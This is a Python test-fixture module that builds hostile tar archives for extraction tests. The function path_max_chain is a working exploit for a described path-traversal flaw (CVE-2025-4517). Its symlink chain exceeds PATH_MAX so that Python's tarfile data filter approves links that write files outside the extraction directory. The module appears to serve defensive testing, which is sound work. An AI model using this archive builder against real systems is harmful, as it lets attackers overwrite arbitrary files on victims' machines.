"""Hostile tar archives for the slot extraction tests, built with `tarfile` member by member.

`path_max_chain` is CVE-2025-4517: `os.path.realpath()` gives up resolving (and goes on lexically) once
the path it builds passes PATH_MAX, while the kernel follows the same links through short names. A chain of
16 one-letter symlinks, each naming a ~250-character directory, makes the lexical and the real path differ
by 17 levels, so `filter="data"` (Python < 3.11.13) approves a link whose real target is outside the
extraction directory, and a file written through it lands there.
"""

from __future__ import annotations

import io
import tarfile

PATH_MAX = 4096
STEPS = "abcdefghijklmnop"          # one-letter symlinks: the kernel's path stays short


def _add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", linkname: str = "",
         mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = mode
    info.linkname = linkname
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def path_max_chain(dest_len: int, writes: dict[str, dict[str, bytes]]) -> bytes:
    """A tar that, extracted into a directory whose absolute path has `dest_len` characters, writes
    `writes[escape][name]` to `<dest>/<escape>/<name>` where each `escape` is a path relative to the
    destination (it may climb with '..', at most 17 levels), through links the data filter approves.
    """
    # Long enough that dest + chain + the last link's name passes PATH_MAX, short enough that the
    # deepest directory itself can still be created by its full path.
    comp = min(247, (PATH_MAX - 1 - dest_len) // len(STEPS) - 1)
    assert dest_len + len(STEPS) * (comp + 1) + 1 + 254 >= PATH_MAX, "destination path too short for the chain"
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        deep = ""
        for step in STEPS:
            _add(tar, f"{deep}{'d' * comp}", tarfile.DIRTYPE, mode=0o755)
            _add(tar, f"{deep}{step}", tarfile.SYMTYPE, linkname="d" * comp)
            deep += "d" * comp + "/"
        # At the end of the short chain, a link back up to the destination with a name too long for
        # realpath() to look at: lexically it stays 17 levels down, really it is the destination.
        loop = "/".join(STEPS) + "/" + "l" * 254
        _add(tar, loop, tarfile.SYMTYPE, linkname="../" * len(STEPS))
        for index, (escape, files) in enumerate(writes.items()):
            assert escape.count("..") <= len(STEPS) + 1, "too many levels to climb"
            door = f"escape{index}"
            _add(tar, door, tarfile.SYMTYPE, linkname=f"{loop}/{escape}")
            for name, data in files.items():
                _add(tar, f"{door}/{name}", data=data)
    return out.getvalue()


def single(kind: bytes, name: str = "x", linkname: str = "", data: bytes = b"") -> bytes:
    """A tar holding one member of `kind` (plus a harmless file first, so order does not matter)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        _add(tar, "app", data=b"harmless\n")
        _add(tar, name, kind, data=data, linkname=linkname)
    return out.getvalue()


def members(*spec: tuple[str, bytes]) -> bytes:
    """A tar of (name, type) members in order, regular files holding their own name."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, kind in spec:
            _add(tar, name, kind, data=name.encode(), mode=0o755 if kind == tarfile.DIRTYPE else 0o644)
    return out.getvalue()
